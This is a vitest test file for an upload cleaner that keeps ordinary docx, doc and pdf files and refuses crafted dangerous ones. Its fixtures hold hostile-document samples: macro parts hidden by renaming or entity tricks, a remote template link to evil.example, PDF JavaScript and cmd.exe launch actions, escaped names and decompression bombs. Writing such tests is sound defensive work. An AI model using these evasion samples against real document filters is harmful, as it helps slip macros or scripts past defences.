import { randomBytes } from "node:crypto";
import { deflateSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import {
  contentTypes,
  craftDoc,
  craftDocx,
  craftObjectStream,
  craftPdf,
  craftStream,
  craftZip,
} from "../../../../tests/support/crafted-documents.ts";
import { MAX_UPLOAD_BYTES } from "../../../domain/enquiry/custom-form/upload.ts";
import { cleanUpload } from "./upload-content.ts";

/** Documents never get as far as the picture cleaner; pictures are tested through the route. */
const noPicture = async () => {
  throw new Error("A document was taken for a picture.");
};

const MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml";
const VBA_PART =
  '<Override PartName="/word/holiday.png" ContentType="application/vnd.ms-office.vbaProject"/>';
const TEMPLATE_LINK =
  '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>';
const ACTION = "<< /S /JavaScript /JS (app.alert(1)) >>";
const docx = craftDocx();

/** A flag that says the entry is encrypted, in the central directory alone. */
function withEncryptedEntry(zip: Buffer): Buffer {
  const copy = Buffer.from(zip);
  copy.writeUInt16LE(1, copy.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])) + 8);
  return copy;
}

function withFatLoop(doc: Buffer): Buffer {
  const copy = Buffer.from(doc);
  copy.writeUInt32LE(1, 512 + 4);
  return copy;
}

describe("a document that is kept", () => {
  it.each([
    ["a docx", docx, "docx"],
    [
      "a docx whose archive has a comment",
      craftZip(
        [
          ["[Content_Types].xml", contentTypes()],
          ["word/document.xml", "<w:document/>"],
        ],
        "hello",
      ),
      "docx",
    ],
    [
      "a docx with a spreadsheet in it",
      craftDocx([["word/embeddings/Microsoft_Excel_Sheet1.xlsx", "PK"]]),
      "docx",
    ],
    [
      "a docx that writes about macros",
      craftDocx([["word/footnotes.xml", "vbaProject.bin macroEnabled"]]),
      "docx",
    ],
    ["a doc", craftDoc(), "doc"],
    [
      "a doc with many streams",
      craftDoc(["1Table", "Data", "ObjectPool", "CompObj", "SummaryInformation"]),
      "doc",
    ],
    ["a pdf", craftPdf(), "pdf"],
    [
      "a pdf that opens at a page",
      craftPdf("<< /OpenAction [3 0 R /Fit] /URI (https://example.org) >>"),
      "pdf",
    ],
    ["a pdf with packed objects", craftPdf(craftObjectStream("10 0 << /Type /Page >>")), "pdf"],
    [
      "a pdf whose picture has the letters by chance",
      craftPdf(craftStream(Buffer.from("\x01/JS (\x02/XFA[ "))),
      "pdf",
    ],
    [
      "a pdf with names like ours",
      craftPdf("<< /JSX 1 /Launched 2 /MyJavaScript 3 /EmbeddedFont 4 >>"),
      "pdf",
    ],
  ])("may be %s", async (_what, content, kind) => {
    expect((await cleanUpload(content, noPicture))?.kind).toBe(kind);
    expect((await cleanUpload(content, noPicture))?.content.equals(content)).toBe(true);
  });
});

describe("a document that is refused", () => {
  it.each([
    [
      "a docm under the name of a docx",
      craftDocx([["word/vbaProject.bin", "macros"]], contentTypes(MACRO_MAIN)),
    ],
    ["macros in a docx of the usual type", craftDocx([["word/vbaProject.bin", "macros"]])],
    ["macros with other capitals", craftDocx([["word/VBAPROJECT.BIN", "macros"]])],
    [
      "macros under the name of a picture",
      craftDocx([["word/holiday.png", "macros"]], contentTypes(undefined, VBA_PART)),
    ],
    ["the type of a docm alone", craftDocx([], contentTypes(MACRO_MAIN))],
    [
      "a type hidden by a character reference",
      craftDocx([], contentTypes(undefined, VBA_PART.replace("vba", "&#118;ba"))),
    ],
    ["a type hidden by an entity", craftDocx([], `<!DOCTYPE x [<!ENTITY v "vba">]>${contentTypes()}`)],
    ["types in another encoding", craftDocx([], `${contentTypes()}\0`)],
    ["an ActiveX control", craftDocx([["word/activeX/activeX1.bin", "control"]])],
    ["a packed program", craftDocx([["word/embeddings/oleObject1.bin", "program"]])],
    ["a spreadsheet with macros inside", craftDocx([["word/embeddings/sheet.xlsm", "macros"]])],
    ["a template from elsewhere", craftDocx([["word/_rels/settings.xml.rels", TEMPLATE_LINK]])],
    ["two lists of types", craftDocx([["[Content_Types].xml", contentTypes(MACRO_MAIN)]])],
    ["a docx without a document", craftZip([["[Content_Types].xml", contentTypes()]])],
    ["another archive that mentions a document", craftZip([["readme.txt", "word/document.xml"]])],
    ["an encrypted docx", withEncryptedEntry(docx)],
    ["half a docx", docx.subarray(0, docx.length - 30)],
    ["a docx with something behind it", Buffer.concat([docx, Buffer.from("x")])],
    ["an archive that unpacks to very much", craftDocx([], contentTypes() + " ".repeat(5_000_000))],
    ["a doc with macros", craftDoc(["Macros", "VBA", "dir", "_VBA_PROJECT"])],
    ["a doc whose macros stand elsewhere", craftDoc(["1Table", "Data", "_VBA_PROJECT_CUR"])],
    ["a doc with a packed program", craftDoc(["ObjectPool", "\u0001Ole10Native"])],
    [
      "a spreadsheet of before 2007",
      Buffer.from(craftDoc().toString("latin1").replace("W\0o\0r\0d\0", "B\0o\0o\0k\0"), "latin1"),
    ],
    ["a doc whose directory runs in a circle", withFatLoop(craftDoc())],
    ["half a doc", craftDoc().subarray(0, 700)],
    ["a pdf with a script", craftPdf(ACTION)],
    ["a pdf with an escaped script", craftPdf("<< /S /J#61vaScr#69pt /#4aS (app.alert(1)) >>")],
    ["a pdf with a list of scripts", craftPdf("<</Names<</JavaScript 3 0 R>>>>")],
    ["a pdf that has a script only by its key", craftPdf("<< /S /Other /JS 5 0 R >>")],
    ["a pdf that starts a program", craftPdf("<</S/Launch/F(cmd.exe)>>")],
    ["a pdf with a file in it", craftPdf("<< /Type /EmbeddedFile >>")],
    ["a pdf with a list of files", craftPdf("<< /Names << /EmbeddedFiles 4 0 R >> >>")],
    ["a pdf with a film that runs", craftPdf("<< /Subtype /RichMedia >>")],
    ["a pdf with a form program", craftPdf("<< /AcroForm << /XFA 9 0 R >> >>")],
    ["a script in packed objects", craftPdf(craftObjectStream(`10 0 ${ACTION}`))],
    [
      "a script in objects packed under an escaped name",
      craftPdf(craftObjectStream(`10 0 ${ACTION}`, "/Type /Obj#53tm /Filter [/FlateDecode]")),
    ],
    ["a script behind a fake stream", craftPdf("(>>\nstream\n)", ACTION, "(endstream)")],
    [
      "packed objects that can't be read",
      craftPdf(craftStream(randomBytes(200), "/Type /ObjStm /Filter /FlateDecode")),
    ],
    [
      "objects packed twice",
      craftPdf(
        craftStream(deflateSync(deflateSync(ACTION)), "/Type /ObjStm /Filter [/FlateDecode /FlateDecode]"),
      ),
    ],
    [
      "objects packed in another way",
      craftPdf(craftStream(Buffer.from("2f4a53>"), "/Type /ObjStm /Filter /ASCIIHexDecode")),
    ],
    ["packed objects that become very large", craftPdf(craftObjectStream(" ".repeat(40 * 1024 * 1024)))],
    ["packed objects without end", craftPdf("/ObjStm ".repeat(3_000))],
  ])("is %s", async (_what, content) => {
    expect(await cleanUpload(content, noPicture)).toBeUndefined();
  });

  it("reads the largest file of nothing but slashes to its end", async () => {
    const slashes = Buffer.concat([
      craftPdf(),
      Buffer.alloc(MAX_UPLOAD_BYTES - 1_000, "/J/"),
      Buffer.from(ACTION),
    ]);
    expect(await cleanUpload(slashes, noPicture)).toBeUndefined();
  });
});
